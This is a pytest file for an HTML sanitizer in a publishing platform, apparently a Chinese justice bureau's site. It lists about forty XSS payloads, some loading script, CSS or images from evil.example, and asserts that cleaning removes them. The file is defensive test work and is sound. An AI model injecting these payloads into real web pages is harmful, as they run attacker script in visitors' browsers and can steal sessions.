"""What stands in a body after cleaning: the words, the tables and the order; nothing that runs or spies."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongkai.law.refusals import Refused
from gongkai.platform.accounts.models import Person
from gongkai.publishing.publications import actions
from gongkai.publishing.publications.cleaning import ALLOWED_VERSION, DEEPEST, clean, is_own_address
from gongkai.publishing.publications.content import Content

Text = Callable[..., Content]
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src= onmouseover=alert(1)>",
    "<img src=/x onerror&#61;alert(1) onload=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form action='javascript:alert(1)'><input type=image src=x onfocus=alert(1) autofocus></form>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='text-align:center;position:fixed;top:0'>x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content='0;url=//evil'>",
    "<base href='http://evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xml><o:OfficeDocumentSettings/></xml>",
    "<table background='http://evil.example/x.gif'><td background='x' onclick=alert(1)>1</td></table>",
    "<p>\u0338 onmouseover=alert(1) x</p>",
    "<p>&#x338; onmouseover=alert(1) x=</p>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=http://evil.example/a.mp3></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input onfocus=alert(1) autofocus><button onclick=alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=//evil.example/pixel.gif><img src='\\\\evil.example\\a'><img src='/\\evil.example/a'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
)
TAGS = {
    *(
        "p",
        "h2",
        "h3",
        "h4",
        "h5",
        "div",
        "blockquote",
        "pre",
        "hr",
        "br",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
    ),
    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("strong", "em", "u", "s", "sub", "sup", "code", "span", "a", "img"),
}
NAMES = {
    *("href", "title", "rel", "src", "alt", "width", "height", "class"),
    *("colspan", "rowspan", "scope", "span", "start", "type"),
}


class Seen(HTMLParser):
    """Every tag and attribute that a browser would find."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def harmless(text: str) -> bool:
    seen = Seen(text)
    addresses = [value for name, value in seen.attributes if name in ("href", "src")]
    return (
        seen.tags <= TAGS
        and {name for name, _ in seen.attributes} <= NAMES
        and all(re.match(r"(https?:|mailto:|[^:]*$|[^:/]*/)", one) for one in addresses)
        and all(is_own_address(value) for name, value in seen.attributes if name == "src")
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_is_left(attack: str) -> None:
    for text in (attack, f"<p>通知{attack}</p>", f"<table><tr><td>{attack}</td></tr></table>"):
        cleaned = clean(text)
        assert harmless(cleaned)
        assert clean(cleaned) == cleaned


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<i>",
            "<table>",
            "<tr>",
            "<td colspan=2>",
            "</table>",
            "<pre>",
            "\n",
        ),
        *(
            "<pre>",
            "</pre>",
            "<a href=x>",
            "</a>",
            "<h1 align=center>",
            "</h1>",
            "<center>",
            "<li>",
            "<ul>",
            "</ul>",
        ),
        *(
            "<img src=a.png alt='图&lt;'>",
            "<img src=//x alt='<b>'>",
            "&nbsp;",
            "&lt;p&gt;",
            "\u0338",
            ">",
            "<",
        ),
        *(
            "<p style='text-align:right'>",
            "<p class='align-left x'>",
            "<!--",
            "-->",
            "司法局",
            "<font size=2>",
        ),
    ]
)


@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_cleaning_twice_is_cleaning_once_whatever_was_written(text: str) -> None:
    cleaned = clean(text)
    assert clean(cleaned) == cleaned
    assert harmless(cleaned)


def test_a_table_pasted_from_word_keeps_its_merged_cells() -> None:
    pasted = """<html xmlns:o="urn:schemas-microsoft-com:office:office">
    <head><style>p.MsoNormal{}</style></head>
    <body lang=ZH-CN><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]-->
    <p class=MsoNormal align=center style='text-align:center'><b><span style='font-size:22.0pt'>收费目录
    <o:p></o:p></span></b></p><table class=MsoTableGrid border=1 style='border-collapse:collapse'><thead><tr>
    <th scope=col rowspan=2 style='width:5pt'>项目</th><th colspan=2>标准</th></tr></thead>
    <tr><td width=10 style='text-align:right'>10元</td><td>每件</td></tr></table></body></html>"""
    cleaned = re.sub(r"\s*\n\s*", "", clean(pasted))
    assert cleaned == (
        '<p class="align-center"><strong><span>收费目录</span></strong></p><table><thead><tr>'
        '<th scope="col" rowspan="2">项目</th><th colspan="2">标准</th></tr></thead>'
        '<tbody><tr><td class="align-right">10元</td><td>每件</td></tr></tbody></table>'
    )


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<h1>一</h1><h6>二</h6>", "<h2>一</h2><h5>二</h5>"),
        ("<b>一</b><i>二</i><strike>三</strike>", "<strong>一</strong><em>二</em><s>三</s>"),
        ('<p align="RIGHT">落款</p>', '<p class="align-right">落款</p>'),
        ('<p class="align-center huge">题</p>', '<p class="align-center">题</p>'),
        ("<center>题</center>", '<div class="align-center">题</div>'),
        ('<img src="2026/a.png" alt="流程图" width="300" onload="x">', None),
        ('<img src="https://old.example.cn/a.png" alt="流程图">', "流程图"),
        ('<img src="data:image/png;base64,AAAA" alt="印章<b>">', "印章&lt;b&gt;"),
        ('<a href="/sfj/202603/00006.html">看</a>', None),
        ('<td colspan="0"><p>不在表里</p></td>', "<p>不在表里</p>"),
        ('<table><tr><td colspan="99999" rowspan="2">x</td></tr></table>', None),
        ("<pre>\n\n第一行\n  第二行</pre>", "<pre>第一行\n  第二行</pre>"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("条例第\x0b二十\x00六条", "条例第二十六条"),
        ("<section><p>一</p></section>", "<div><p>一</p></div>"),
    ],
)
def test_what_is_written_another_way_and_what_is_kept(written: str, kept: str | None) -> None:
    others = {
        '<img src="2026/a.png" alt="流程图" width="300" onload="x">': (
            '<img src="2026/a.png" alt="流程图" width="300">'
        ),
        '<a href="/sfj/202603/00006.html">看</a>': (
            '<a href="/sfj/202603/00006.html" rel="noopener noreferrer">看</a>'
        ),
        '<table><tr><td colspan="99999" rowspan="2">x</td></tr></table>': (
            '<table><tbody><tr><td rowspan="2">x</td></tr></tbody></table>'
        ),
    }
    assert clean(written) == (others[written] if kept is None else kept)


@pytest.mark.parametrize("tag", ["div", "b", "font", "a", "table", "x-y"])
def test_tags_nested_without_end_are_refused_before_they_cost_anything(tag: str) -> None:
    with pytest.raises(Refused) as refused:
        clean(f"<{tag}></q>" * (DEEPEST + 1))
    assert [(one.field, one.rule) for one in refused.value.issues] == [("body", "body.depth")]


def test_a_long_text_is_not_a_deep_one() -> None:
    text = "<table><tbody>" + "<tr><td><b>1</b><br>2</td></tr>" * 3000 + "</tbody></table>" + "<p>x" * 3000
    assert clean(text).count("<td>") == 3000


def test_the_version_of_the_list_is_told() -> None:
    assert re.fullmatch("[0-9a-f]{16}", ALLOWED_VERSION)


@pytest.mark.django_db
def test_zhou_min_writes_a_dirty_text_and_the_clean_one_is_kept(text: Text, wang: Person) -> None:
    dirty = "<h1 onclick=x>通知</h1><script>alert(1)</script><p>各司法所:</p>"
    first = actions.draft(text(body=dirty), by=wang)
    assert first.body == "<h2>通知</h2><p>各司法所:</p>"
    again = actions.draft(text(body=dirty), by=wang, document=first.document, based_on=first.hash)
    assert again == first
